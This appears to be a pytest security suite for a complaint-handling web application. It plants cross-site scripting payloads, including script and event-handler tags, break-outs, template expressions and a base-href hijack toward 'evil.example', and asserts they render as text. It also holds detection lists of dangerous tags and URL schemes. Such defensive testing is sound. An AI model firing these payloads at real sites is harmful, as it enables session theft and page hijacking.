"""Security corpus: hostile input in every field, filter and identifier, and the shared
ground of the other security suites (test_security_csrf, _files, _access, _auth).

1. Cross-site scripting: payloads (tags, attribute and element break-outs, template
   expressions, javascript: addresses, entities, look-alike and bidi characters) in every
   free-text field citizens, staff and admins fill; every page, refused form, JSON answer,
   Open311 XML answer and the evidence pack's summary keeps them as text.
2. Spreadsheet formulas: no cell of the report CSV or of any CSV in the evidence pack runs
   as a formula (pengaduan/spreadsheet.py prefixes an apostrophe).
3. SQL injection: payloads in every search, filter, code and sign-in field leak nothing of
   another unit, never a confidential complaint, never answer 5xx, change no table.
4. Values no column can hold (NUL bytes, numbers past 64 bits, over-long names): refused
   or harmless, never a 500.

The shared ground: a scene with one object of every kind in two units (test_supervision's
`org`: officers, supervisors, an auditor and an admin), browsers for every role (from
test_staff), a fingerprint of the whole database, and readers that tell whether a page
carries a payload as markup.

Requests run outside any pushed application context (as in test_staff.py); data is built
and checked in short `with app.app_context():` blocks. Known defects are strict xfails whose
docstrings say what was found.
"""
from __future__ import annotations

import csv
import hashlib
import io
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select
from werkzeug.routing import IntegerConverter

from pengaduan.extensions import db
from pengaduan.models import Notification, Unit, User, utcnow
from pengaduan.policy import Actor
from pengaduan.services import advance, file_complaint, issue_token
from pengaduan.services.oversight import documents as docs
from pengaduan.services.oversight import supervision as sv
from pengaduan.services.administration.accounts import create_api_key
from pengaduan.services.attachments import store
from pengaduan.services.complaints.casework import give_instruction
from pengaduan.services.complaints.responses import save_response_template
from pengaduan.services.surveys import follow_up, opening, periods
from pengaduan.jobs.sweep import sweep
from test_staff import PASSWORD, browser, get_page, signed_in, token_of, track
from test_supervision import (ADMIN, AUDITOR, OFFICER_A, OFFICER_B, SUPERVISOR_A, SUPERVISOR_AB,
                              SUPERVISOR_B, actor_of, pdf, png)
from test_supervision import org  # noqa: F401  (the fixture: two units and their staff)

VERIFY_A = {"unit": "UNIT-A", "category": "GENERAL", "classification": "pengaduan"}
IDENTITY = {"name": "Budi Hartono", "nik": "3201234567890123", "email": "",
            "phone": "+62 812-3456-7890", "address": "Jl. Merdeka 1, Bogor"}


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (3, 2), 1).save(buffer, "GIF")
    return buffer.getvalue()


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (6, 4), (20, 80, 200)).save(buffer, "JPEG")
    return buffer.getvalue()


# --- the scene: one object of each kind in UNIT-A and UNIT-B --------------------------------

@dataclass
class Scene:
    a: str  # public complaint of UNIT-A with a photo, received (officer A has a notification)
    a_pin: str
    secret: str  # confidential complaint of UNIT-A
    secret_pin: str
    closed: str  # complaint of UNIT-A rejected (closed): its complainant may rate
    closed_pin: str
    late: str  # complaint of UNIT-A filed long ago: overdue and escalated
    late_pin: str
    b: str  # public complaint of UNIT-B with a photo
    b_pin: str
    attachment_a: int
    attachment_b: int
    record_a: int  # supervision record of UNIT-A with an action and a file
    action_a: int
    file_a: int
    record_b: int
    action_b: int
    file_b: int
    document_a: int  # standing document of UNIT-A
    document_b: int
    template: int  # a response template for every category
    notification_a: int  # one of officer A's notifications
    users: dict = field(default_factory=dict)  # email: id
    tokens: dict = field(default_factory=dict)  # email: API bearer token
    api_key: str = ""  # an Open311 key
    instruction_a: int = 0  # the timeline event of a supervisor's instruction on `late`
    survey_a: int = 0  # this quarter's SKM period of UNIT-A, taking answers
    survey_a_path: str = ""  # its public questionnaire
    survey_action_a: int = 0  # an improvement action following up that period (element U3)
    evaluation_action_a: int = 0  # an improvement action of UNIT-A's complaint evaluation, this quarter
    ombudsman_product_a: int = 0  # an Ombudsman product concerning UNIT-A, with its scan
    ombudsman_file_a: int = 0
    ombudsman_item_a: int = 0  # its open action
    ombudsman_item_dropped: int = 0  # its dropped action (may be reopened)
    ombudsman_item_spare: int = 0  # another open action (may be dropped)
    compensation_a: int = 0  # a compensation officer A recorded for UNIT-A (she may correct it)

    def codes(self, unit: str) -> set[str]:
        return {"UNIT-A": {self.a, self.secret, self.closed, self.late}, "UNIT-B": {self.b}}[unit]


def _file(raw: dict, files=(), at=None):
    stored = store([(name, data, kind) for data, name, kind in files])
    filed = file_complaint(raw, attachments=stored, at=at)
    return filed.complaint, filed.pin


def complaint_raw(unit: str = "UNIT-A", **overrides) -> dict:
    return {"unit": unit, "category": "GENERAL" if unit == "UNIT-A" else "ONLY-B",
            "classification": "pengaduan", "title": f"Jalan rusak di {unit}",
            "description": f"Lubang besar di depan kantor {unit}.", "privacy": "public",
            **IDENTITY, "consent": True, **overrides}


def build_scene(app) -> Scene:
    """Everything a security test may aim at, built through the services."""
    with app.app_context():
        a, a_pin = _file(complaint_raw(), [(png(), "foto-a.png", "image/png")])
        secret, secret_pin = _file(complaint_raw(privacy="confidential", title="Rahasia A"))
        closed, closed_pin = _file(complaint_raw(title="Ditolak A"))
        late, late_pin = _file(complaint_raw(title="Terlambat A"), at=utcnow() - timedelta(days=30))
        b, b_pin = _file(complaint_raw("UNIT-B"), [(png((1, 2, 3)), "foto-b.png", "image/png")])
        advance(closed, "reject", actor_of(OFFICER_A), reason="Bukan kewenangan kami",
                closure_reason="rejected")
        today = sv.today()
        records = {}
        for unit, who in (("UNIT-A", SUPERVISOR_A), ("UNIT-B", SUPERVISOR_B)):
            stored = store([(f"notulen-{unit}.png", png((9, 9, 9)), "image/png")])
            record = sv.record_supervision(actor_of(who), {
                "kind": "coaching", "held_on": today, "title": f"Pembinaan {unit}",
                "units": [unit], "findings": f"Temuan {unit}",
                "actions": [{"description": f"Tindak lanjut {unit}", "owner": "Siti", "due_on": ""}]},
                stored)
            document = docs.upload_document(
                actor_of(who), record.units[0],
                {"kind": "handler_decree", "title": f"SK {unit}", "valid_from": "2026-01-01"},
                store([(f"sk-{unit}.pdf", pdf(unit), "application/pdf")]))
            records[unit] = (record, document)
        template = save_response_template(None, title="Jawaban baku", body="Terima kasih.",
                                          category_code=None, actor=Actor.system())
        db.session.commit()
        sweep()  # the late complaint is overdue, and escalated
        officer_a = User.by_email(OFFICER_A)
        notification = db.session.scalars(select(Notification).where(
            Notification.user_id == officer_a.id).order_by(Notification.id)).first()
        instruction = give_instruction(late, actor_of(SUPERVISOR_A), "Segera hubungi pelapor.")
        tokens = {email: issue_token(User.by_email(email))
                  for email in (OFFICER_A, OFFICER_B, SUPERVISOR_A, AUDITOR, ADMIN)}
        key = create_api_key("integrasi")
        survey = opening.open_period(actor_of(SUPERVISOR_A), Unit.by_code("UNIT-A"),
                                     periods.containing(sv.today(), "quarter").label, ["KTP-el"], 100)
        skm_action = follow_up.add_action(survey, actor_of(SUPERVISOR_A), {
            "element": "U3", "description": "Tambah loket", "owner": "Siti"})
        from pengaduan.services.evaluation import actions as evaluation_actions
        evaluation_action = evaluation_actions.add_action(
            Unit.by_code("UNIT-A"), periods.containing(sv.today(), "quarter"), actor_of(SUPERVISOR_A),
            {"group": "unit:UNIT-A", "description": "Tambah petugas loket", "owner": "Siti"})
        from pengaduan.services import ombudsman
        product = ombudsman.record_product(actor_of(SUPERVISOR_A), {
            "kind": "tindakan_korektif", "number": "LAHP/1/2026", "issued_on": sv.today().isoformat(),
            "received_on": sv.today().isoformat(), "title": "Penundaan berlarut", "units": ["UNIT-A"]},
            store([("lahp.png", png((7, 7, 7)), "image/png")]))
        open_item = ombudsman.add_item(actor_of(SUPERVISOR_A), product, {
            "action": "Terbitkan SOP", "owner": "Kabid", "unit": "UNIT-A"})
        dropped_item = ombudsman.add_item(actor_of(SUPERVISOR_A), product, {
            "action": "Pasang papan", "owner": "Sekdin", "unit": "UNIT-A"})
        ombudsman.drop_item(actor_of(SUPERVISOR_A), dropped_item, {"reason": "Dicabut"})
        spare_item = ombudsman.add_item(actor_of(SUPERVISOR_A), product, {
            "action": "Latih petugas", "owner": "Kabid", "unit": "UNIT-A"})
        from pengaduan.services.oversight.compensation import record_compensation
        compensation = record_compensation(actor_of(OFFICER_A), {
            "unit": "UNIT-A", "kind": "apology", "given_on": sv.today().isoformat(),
            "description": "Surat permintaan maaf", "approved_by": "Kepala Dinas A"})
        db.session.commit()
        (rec_a, doc_a), (rec_b, doc_b) = records["UNIT-A"], records["UNIT-B"]
        return Scene(
            a=a.tracking_code, a_pin=a_pin, secret=secret.tracking_code, secret_pin=secret_pin,
            closed=closed.tracking_code, closed_pin=closed_pin, late=late.tracking_code,
            late_pin=late_pin, b=b.tracking_code, b_pin=b_pin,
            attachment_a=a.attachments[0].id, attachment_b=b.attachments[0].id,
            record_a=rec_a.id, action_a=rec_a.actions[0].id, file_a=rec_a.files[0].id,
            record_b=rec_b.id, action_b=rec_b.actions[0].id, file_b=rec_b.files[0].id,
            document_a=doc_a.id, document_b=doc_b.id, template=template.id,
            notification_a=notification.id,
            users={u.email: u.id for u in db.session.scalars(select(User))},
            tokens=tokens, api_key=key, instruction_a=instruction.id, survey_a=survey.id,
            survey_a_path=f"/skm/UNIT-A/{survey.label}", survey_action_a=skm_action.id,
            evaluation_action_a=evaluation_action.id, ombudsman_product_a=product.id,
            ombudsman_file_a=product.files[0].id, ombudsman_item_a=open_item.id,
            ombudsman_item_dropped=dropped_item.id, ombudsman_item_spare=spare_item.id,
            compensation_a=compensation.id)


@pytest.fixture
def scene(app, org) -> Scene:
    return build_scene(app)


def citizen_of(app, code: str, pin: str):
    """A complainant's browser that proved the code and PIN on /track."""
    client = browser(app)
    assert track(client, code, pin).status_code == 302
    return client


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


# --- the whole database, and the upload folder, as fingerprints -----------------------------

def fingerprint(app) -> dict[str, str]:
    """Every table's rows as a digest: any insert, update or delete changes it."""
    with app.app_context():
        digests = {}
        for table in db.metadata.sorted_tables:
            rows = db.session.execute(select(table).order_by(*table.primary_key.columns)).all()
            digests[table.name] = hashlib.sha256(repr([tuple(r) for r in rows]).encode()).hexdigest()
        db.session.rollback()
        return digests


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(name for name in before if before[name] != after.get(name))


def upload_listing(app) -> list[str]:
    folder = Path(app.config["PENGADUAN_UPLOAD_DIR"])
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def tree(root: Path) -> set[str]:
    """Every file under a folder (what an upload may have written anywhere)."""
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


# --- reading answers as a browser or a spreadsheet would -------------------------------------

MARKER = "xss1337"  # every payload names it where a browser would run it
EVALUATED = "54439"  # 7*7777: a template engine that evaluates the payload prints this
ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
               "math", "style", "template", "noscript", "portal"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background",
                  "xlink:href", "ping", "srcset", "lowsrc", "dynsrc", "codebase"}


class _Reader(HTMLParser):
    """Start tags with their attributes, and the text a reader sees."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def _scheme(value: str) -> str:
    cleaned = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned else ""


def injection_problems(html: str, payloads=()) -> list[str]:
    """What in a served page shows that a payload became markup instead of text.

    The templates have no inline script, style, event handler or frame (test_security_headers
    checks that; a page may load its own script from /static/js/), and the only <svg> are the
    report's bars, the server-drawn charts (templates/_charts.html) and the QR codes segno draws
    of a URL or secret the server made (receipt, two-step enrolment); so any other came from data. A payload containing markup characters must never appear verbatim (Jinja escapes
    < > & " ' in text and attributes alike)."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    problems = []
    for tag, attrs in reader.tags:
        if tag == "script" and set(attrs) == {"src", "defer"} and attrs["src"].startswith("/static/js/"):
            continue  # a page's own local script (static/js), never one built from data
        if tag in ACTIVE_TAGS or (tag == "svg" and attrs.get("class") not in ("bar", "chart-svg", "qr-code")):
            problems.append(f"<{tag}> element {attrs}")
        if tag == "link" and not attrs.get("href", "").startswith("/static/"):
            problems.append(f"<link> element {attrs}")
        if tag == "meta" and "http-equiv" in attrs:
            problems.append(f"<meta http-equiv> {attrs}")
        for name, value in attrs.items():
            if name.startswith("on") or name == "srcdoc" or MARKER in name:
                problems.append(f"attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and _scheme(value) in ("javascript", "vbscript", "data"):
                problems.append(f"{name}={value!r} on <{tag}>")
    if EVALUATED in html:
        problems.append("a template expression was evaluated (54439)")
    for payload in payloads:
        if any(ch in payload for ch in "<>\"'&") and payload in html:
            problems.append(f"payload verbatim: {payload!r}")
    return problems


def visible_text(html: str) -> str:
    """The page's text and attribute values as a reader gets them (entities decoded)."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    values = [v for _, attrs in reader.tags for v in attrs.values()]
    return "\n".join(reader.text + values)


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text: str) -> list[tuple[int, int, str]]:
    """Cells of a CSV file that a spreadsheet would run as a formula."""
    return [(r, c, cell) for r, row in enumerate(csv.reader(io.StringIO(text)))
            for c, cell in enumerate(row) if cell.startswith(FORMULA_START)]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def period() -> tuple[str, str]:
    today = date.today()
    return (today - timedelta(days=60)).isoformat(), (today + timedelta(days=1)).isoformat()


# =============================================================================================
# 1. Cross-site scripting: a corpus of payloads in every free-text field, on every page
# =============================================================================================

XSS = {
    "tags": '<script>xss1337()</script><img src=x onerror=xss1337()><svg/onload=xss1337()>'
            '<iframe srcdoc="<script>xss1337()</script>">',
    "breakouts": '"><svg onload=xss1337()>\'><img src=x onerror=xss1337()></textarea></title>'
                 '</option></select><script>xss1337()</script>--></style><base href=//evil.example/>',
    "attributes-and-templates": '" autofocus onfocus="xss1337()" x="\' onmouseover=\'xss1337()\' '
                                '{{7*7777}} ${7*7777} #{7*7777} <%= 7*7777 %> {% print(7*7777) %}',
    "schemes-entities-unicode": 'javascript:xss1337()//&lt;script&gt;xss1337()&lt;/script&gt; '
                                '\u202egnp.exe \u200b\uff1cscript\uff1exss1337()\uff1c/script\uff1e '
                                '<\u017fcript>xss1337()</\u017fcript>',
}


@dataclass
class Corpus:
    scene: Scene
    code: str  # a complaint whose every free text is the payload, reopened (verified)
    pin: str
    rejected: str  # rejected with the payload as reason and referral
    record: int  # supervision record with the payload everywhere
    template: int
    year: int
    quarter: str = ""  # this quarter (2026-Q4): its evaluation report groups the payload


def plant(app, scene: Scene, payload: str) -> Corpus:
    """The payload in every free-text field citizens, staff and admins can fill."""
    from pengaduan.models import Category, Complaint, ResponseTemplate, Unit
    from pengaduan.policy import Actor
    from pengaduan.services.administration.accounts import update_category, update_unit, update_user
    from pengaduan.services.administration.calendar import add_day_off
    from pengaduan.services.complaints.casework import acknowledge_escalations, add_note, assign, give_instruction
    from pengaduan.services.complaints.citizen import rate

    p = payload
    with app.app_context():
        update_unit(Unit.by_code("UNIT-A"), name=p, timezone="Asia/Jakarta", working_days="12345",
                    cuti_bersama_off=True, active=True, actor=Actor.cli("test"))
        update_category(Category.by_code("GENERAL"), name=p, unit_codes=[], active=True, actor=Actor.cli("test"))
        officer = User.by_email(OFFICER_A)
        update_user(officer, name=p, role="officer", unit_codes=["UNIT-A"], active=True, actor=Actor.cli("test"))
        officer_actor, supervisor = actor_of(OFFICER_A), actor_of(SUPERVISOR_A)
        complaint, pin = _file(complaint_raw(
            title=p, description=p, incident_location=p, requested_resolution=p, name=p, address=p),
            [(png(), p + ".png", "image/png")])
        citizen = Actor.citizen(complaint)
        advance(complaint, "request_info", officer_actor, message=p, note=p)
        advance(complaint, "provide_info", citizen, message=p)
        advance(complaint, "verify", officer_actor, **VERIFY_A, note=p, assignee=OFFICER_A)
        advance(complaint, "follow_up", officer_actor, response=p)
        advance(complaint, "dispute", citizen, comment=p)
        advance(complaint, "follow_up", officer_actor, response=p)
        advance(complaint, "close", officer_actor, resolution=p)
        rate(complaint, citizen, 4, p)
        advance(complaint, "reopen", supervisor, reason=p, note=p)
        add_note(complaint, officer_actor, p)
        give_instruction(complaint, supervisor, p)
        rejected, _ = _file(complaint_raw(title=p))
        advance(rejected, "reject", officer_actor, reason=p, closure_reason="referred", referred_to=p)
        from pengaduan.services.evaluation.findings import record_finding
        from pengaduan.services.evaluation import actions as evaluation_actions
        from pengaduan.services.surveys import periods as survey_periods
        record_finding(rejected, officer_actor, {"finding": "founded", "maladministration": "tidak_patut",
                                                 "systemic": "yes", "root_cause": p})
        quarter = survey_periods.containing(sv.today(), "quarter")
        evaluation_actions.add_action(Unit.by_code("UNIT-A"), quarter, supervisor, {
            "group": "unit:UNIT-A", "description": p, "owner": p[:200]})
        late = Complaint.by_code(scene.late)
        assign(late, officer_actor, OFFICER_A)
        acknowledge_escalations(late, supervisor, p)
        record = sv.record_supervision(supervisor, {
            "kind": "monitoring_evaluation", "held_on": sv.today(), "title": p, "participants": p,
            "findings": p, "units": ["UNIT-A"], "complaints": complaint.tracking_code,
            "actions": [{"description": p, "owner": p, "due_on": ""}]},
            store([(p + ".png", png((5, 5, 5)), "image/png")]))
        from pengaduan.services.oversight.compensation import record_compensation
        record_compensation(officer_actor, {
            "complaint": complaint.tracking_code, "kind": "refund", "given_on": sv.today().isoformat(),
            "value": "1000", "description": p, "approved_by": p[:200]},
            store([(p + ".png", png((6, 6, 6)), "image/png")]))
        from pengaduan.services import ombudsman
        product = ombudsman.record_product(supervisor, {
            "kind": "rekomendasi", "number": p[:100], "issued_on": sv.today().isoformat(),
            "received_on": sv.today().isoformat(), "title": p[:300], "summary": p, "units": ["UNIT-A"],
            "complaints": complaint.tracking_code})
        item = ombudsman.add_item(supervisor, product, {"action": p, "owner": p[:200], "unit": "UNIT-A"})
        ombudsman.complete_item(supervisor, item, {"done_on": sv.today().isoformat(), "evidence": p},
                                store([(p[:80] + ".png", png((8, 8, 8)), "image/png")]))
        ombudsman.record_reported_back(supervisor, product, {"reported_back_on": sv.today().isoformat(),
                                                             "reported_back_ref": p[:200]})
        from pengaduan.services import standards as service_standards
        standard = service_standards.create_standard(supervisor, Unit.by_code("UNIT-A"))
        service_standards.update_standard(supervisor, standard, {
            **{f"component_{code}": p for code in standard.components}, "version": standard.version,
            "maklumat": p, "decree_number": p[:120], "published": "1"})
        docs.upload_document(supervisor, Unit.by_code("UNIT-A"), {
            "kind": "complaint_sop", "title": p, "valid_from": "2026-01-01"},
            store([(p + ".pdf", pdf("SOP"), "application/pdf")]))
        template = db.session.get(ResponseTemplate, scene.template)
        save_response_template(template, title=p, body=p, category_code=None, actor=Actor.cli("test"))
        year = sv.today().year + 1
        add_day_off(date(year, 7, 1), "holiday", p[:200], actor=Actor.cli("test"))
        db.session.commit()
        return Corpus(scene, complaint.tracking_code, pin, rejected.tracking_code, record.id,
                      template.id, year, quarter.label)


def _pages(corpus: Corpus) -> list[tuple[str, str, bool]]:
    """(who, url, whether the page must show the payload) for every page showing free text."""
    s, c = corpus.scene, corpus.code
    start, end = period()
    q = "%22%3E%3Csvg%20onload%3Dxss1337()%3E"  # a payload typed into a search or a filter
    return [
        ("anonymous", "/", False), ("anonymous", "/complaints/new", True),
        ("anonymous", f"/track?code={q}", True), ("anonymous", f"/login?next={q}", False),
        ("citizen", f"/track/{c}", True),
        (OFFICER_A, "/staff/queue", True), (OFFICER_A, f"/staff/queue?q={q}", True),
        (OFFICER_A, f"/staff/queue?state=verified&category={q}&due_within={q}&cursor={q}", False),
        (OFFICER_A, f"/staff/complaints/{c}", True),
        (OFFICER_A, f"/staff/complaints/{c}?use={corpus.template}&step=follow_up", True),
        (OFFICER_A, f"/staff/complaints/{corpus.rejected}", True),
        (OFFICER_A, f"/staff/complaints/{q}", False),
        (OFFICER_A, "/staff/notifications", False),
        (OFFICER_A, "/staff/supervision", True), (OFFICER_A, f"/staff/supervision/{corpus.record}", True),
        (OFFICER_A, "/staff/supervision/documents?unit=UNIT-A", True),
        (OFFICER_A, f"/staff/reports?from={start}&to={end}&unit=UNIT-A", True),
        (OFFICER_A, "/staff/compensation", True), (OFFICER_A, f"/staff/compensation/new?complaint={q}", False),
        (OFFICER_A, f"/staff/compensation?from={q}&to={q}&unit={q}", False),
        (AUDITOR, "/staff/compensation/1", True),
        (OFFICER_A, "/staff/ombudsman?status=all", True), (AUDITOR, "/staff/ombudsman/2", True),
        (SUPERVISOR_A, "/staff/ombudsman/2", True), (SUPERVISOR_A, f"/staff/ombudsman?status={q}&unit={q}", False),
        (SUPERVISOR_A, "/staff", False), (SUPERVISOR_A, "/staff/ombudsman/new", False),
        ("anonymous", "/standar-pelayanan", True), ("anonymous", "/standar-pelayanan/UNIT-A", True),
        ("anonymous", f"/standar-pelayanan/{q}", False),
        (OFFICER_A, "/staff/standards", True), (OFFICER_A, "/staff/standards/UNIT-A", True),
        (SUPERVISOR_A, "/staff/standards/UNIT-A", True), (SUPERVISOR_A, f"/staff/standards/{q}", False),
        (SUPERVISOR_A, f"/staff/evaluation?unit=UNIT-A&period={corpus.quarter}", True),
        (AUDITOR, f"/staff/evaluation?period={corpus.quarter}", True),
        (SUPERVISOR_A, f"/staff/evaluation?unit={q}&period={q}", False),
        (SUPERVISOR_A, "/staff/overdue", True), (SUPERVISOR_A, f"/staff/complaints/{s.late}", True),
        (SUPERVISOR_A, f"/staff/supervision/{corpus.record}/edit", True),
        (SUPERVISOR_A, "/staff/supervision/new", True),
        (SUPERVISOR_A, f"/staff/supervision?from={q}&to={q}&unit={q}&kind={q}", True),
        (AUDITOR, "/staff/queue", True), (AUDITOR, f"/staff/complaints/{c}", True),
        (AUDITOR, f"/staff/reports?from={start}&to={end}", True), (AUDITOR, "/staff/evidence", True),
        (AUDITOR, f"/staff/reports?from={q}&to={q}&unit=", False),
        (ADMIN, "/admin/users", True), (ADMIN, f"/admin/users/{s.users[OFFICER_A]}", True),
        (ADMIN, "/admin/units", True), (ADMIN, "/admin/units/UNIT-A", True),
        (ADMIN, "/admin/categories", True), (ADMIN, "/admin/categories/GENERAL", True),
        (ADMIN, "/admin/responses", True), (ADMIN, f"/admin/responses/{corpus.template}", True),
        (ADMIN, f"/admin/calendar?year={corpus.year}", True),
        (ADMIN, "/staff/supervision/documents?unit=UNIT-A", True),
    ]


def _browsers(app, corpus: Corpus) -> dict:
    clients = {email: signed_in(app, email) for email in (OFFICER_A, SUPERVISOR_A, AUDITOR, ADMIN)}
    clients["anonymous"] = browser(app)
    clients["citizen"] = citizen_of(app, corpus.code, corpus.pin)
    return clients


def _reflected_forms(app, clients: dict, corpus: Corpus, payload: str):
    """Forms refused with the payload typed in: the page comes back with what was typed."""
    from test_citizen import valid_form

    p = payload
    anonymous, officer = clients["anonymous"], clients[OFFICER_A]
    supervisor, admin = clients[SUPERVISOR_A], clients[ADMIN]
    form = {**valid_form(), "title": p, "description": p, "incident_location": p,
            "requested_resolution": p, "name": p, "address": p, "consent": None}
    form = {k: v for k, v in form.items() if v is not None}
    form["csrf_token"] = get_page(anonymous, "/complaints/new").token
    yield "complaint form", anonymous.post("/complaints/new", data=form)
    page = get_page(officer, f"/staff/complaints/{corpus.code}?step=follow_up")
    action = f"/staff/complaints/{corpus.code}/act/follow_up"
    values = {**page.forms[action].values, "version": "1", "response": p, "note": p}
    yield "stale step", officer.post(action, data=values)
    token = get_page(supervisor, "/staff/supervision/new").token
    yield "supervision form", supervisor.post("/staff/supervision/new", data={
        "csrf_token": token, "kind": "coaching", "held_on": "bukan tanggal", "title": p,
        "participants": p, "findings": p, "units": ["UNIT-A"], "complaints": corpus.code,
        "action_description": [p], "action_owner": [p], "action_due_on": [p]})
    token = get_page(officer, "/staff/compensation/new").token
    yield "compensation form", officer.post("/staff/compensation/new", data={
        "csrf_token": token, "unit": "UNIT-A", "complaint": p[:20], "kind": p, "given_on": p,
        "value": p, "description": p, "approved_by": p})
    yield "ombudsman product form", supervisor.post("/staff/ombudsman/new", data={
        "csrf_token": token_of(supervisor), "kind": "rekomendasi", "number": p, "issued_on": p,
        "received_on": p, "title": p, "summary": p, "units": ["UNIT-A"], "complaints": p[:20]})
    yield "ombudsman action form", supervisor.post(f"/staff/ombudsman/{corpus.scene.ombudsman_product_a}/items", data={
        "csrf_token": token_of(supervisor), "action": p, "owner": p, "unit": "UNIT-A", "due_on": p})
    yield "service standard form", supervisor.post("/staff/standards/UNIT-A", data={
        "csrf_token": token_of(supervisor), "version": "2", "maklumat": p, "component_cost": p,
        "decree_number": p, "decree_date": p, "reviewed_on": p, "published": "1"})
    yield "evaluation action form", supervisor.post("/staff/evaluation/actions", data={
        "csrf_token": token_of(supervisor), "unit": "UNIT-A", "period": corpus.quarter, "group": p,
        "description": p, "owner": p, "due_on": p})
    yield "finding form", officer.post(f"/staff/complaints/{corpus.rejected}/finding", data={
        "csrf_token": token_of(officer), "finding": "founded", "maladministration": p, "root_cause": p})
    token = token_of(admin)
    yield "admin users", admin.post("/admin/users", data={
        "csrf_token": token, "email": p, "role": "officer", "name": p})
    yield "admin units", admin.post("/admin/units", data={
        "csrf_token": token, "code": p, "name": p, "timezone": p, "working_days": p})
    yield "admin calendar", admin.post(f"/admin/calendar?year={corpus.year}", data={
        "csrf_token": token, "action": "add", "day": p, "kind": p, "reason": p})


def _json_values(value) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in _json_values(v)]
    if isinstance(value, list):
        return [s for v in value for s in _json_values(v)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_payload_in_every_free_text_field_stays_text_on_every_page(app, scene, payload):
    """Typed by citizens (complaint, replies, rating), officers and supervisors (requests,
    responses, notes, instructions, reasons, acknowledgements, supervision records, standing
    documents, file names) and admins (unit, category and staff names, response templates,
    calendar reasons): every page shows it as text, every refused form gives it back as text,
    the JSON API and Open311 XML carry it exactly, the evidence pack's summary as text."""
    import json
    import zipfile
    from xml.etree import ElementTree as ET

    corpus = plant(app, scene, payload)
    clients = _browsers(app, corpus)
    for who, url, shows in _pages(corpus):
        response = clients[who].get(url)
        assert response.status_code in ((200,) if shows else (200, 404, 422)), (who, url)
        html = response.get_data(as_text=True)
        assert injection_problems(html, [payload]) == [], (who, url)
        if shows:
            assert MARKER in visible_text(html), (who, url)
    for name, response in _reflected_forms(app, clients, corpus, payload):
        assert response.status_code in (302, 409, 422), name
        html = response.get_data(as_text=True)
        assert injection_problems(html, [payload]) == [], name
    api = {"units": ("/api/v1/units", {}),
           "staff": (f"/api/v1/complaints/{corpus.code}", bearer(scene.tokens[OFFICER_A])),
           "citizen": (f"/api/v1/complaints/{corpus.code}", {"X-Tracking-Pin": corpus.pin}),
           "events": (f"/api/v1/complaints/{corpus.code}/events", bearer(scene.tokens[OFFICER_A])),
           "list": ("/api/v1/complaints?unit=UNIT-A&state=verified", bearer(scene.tokens[AUDITOR]))}
    for name, (url, headers) in api.items():
        response = clients["anonymous"].get(url, headers=headers)
        assert response.status_code == 200 and response.mimetype == "application/json", name
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert payload.strip() in _json_values(json.loads(response.data)), name
    for url in ("/open311/v2/requests.xml", f"/open311/v2/requests/{corpus.code}.xml",
                "/open311/v2/services.xml"):
        response = clients["anonymous"].get(url)
        assert response.status_code == 200 and response.mimetype == "text/xml", url
        texts = [element.text or "" for element in ET.fromstring(response.data).iter()]
        assert any(payload.strip() in text for text in texts), url
    start, end = period()
    auditor = clients[AUDITOR]
    pack = auditor.post("/staff/evidence", data={"csrf_token": get_page(auditor, "/staff/evidence").token,
                                                 "from": start, "to": end, "unit": "UNIT-A"})
    assert pack.status_code == 200
    with zipfile.ZipFile(io.BytesIO(pack.data)) as archive:
        summary = archive.read("summary.html").decode()
    assert injection_problems(_without_style(summary), [payload]) == []
    assert MARKER in visible_text(summary)
    # Filed through the form with an email address: the receipt page and the receipt email.
    from test_citizen import valid_form

    citizen = browser(app)
    form = {**valid_form(), "title": payload, "description": payload, "name": payload,
            "email": "budi@example.id", "csrf_token": get_page(citizen, "/complaints/new").token}
    assert citizen.post("/complaints/new", data=form).status_code == 302
    receipt = citizen.get("/complaints/receipt").get_data(as_text=True)
    assert injection_problems(receipt, [payload]) == [] and MARKER in visible_text(receipt)
    with app.app_context():
        from pengaduan.models import OutboxMessage

        emails = db.session.scalars(select(OutboxMessage.body_html)).all()
    assert any(MARKER in (body or "") for body in emails)
    for body in emails:
        assert injection_problems(_without_style(body or ""), [payload]) == []


def _without_style(html: str) -> str:
    """Emails and the pack's summary are not served as pages: their own <style> is fine."""
    import re

    return re.sub(r"<style>.*?</style>", "", html, flags=re.S)




def test_control_characters_in_a_complaint_keep_open311_xml_well_formed(app, scene):
    """A complaint filed through the API with a vertical tab, a form feed and an escape in
    its text (pasted from a word processor or a terminal): the Open311 listing, and the
    request itself, still parse as XML, the characters XML cannot carry shown as U+FFFD;
    otherwise one complaint would break the whole feed for every client."""
    from xml.etree import ElementTree as ET

    filed = browser(app).post("/api/v1/complaints", json={
        "unit": "UNIT-A", "title": "Jalan\x0brusak", "privacy": "public", "name": "Budi", "consent": True,
        "description": "Lubang\x0cbesar\x1b[31m di depan kantor"})
    assert filed.status_code == 201
    code = filed.get_json()["tracking_code"]
    for url in ("/open311/v2/requests.xml", f"/open311/v2/requests/{code}.xml"):
        ET.fromstring(browser(app).get(url).data)
    request = ET.fromstring(browser(app).get(f"/open311/v2/requests/{code}.xml").data)
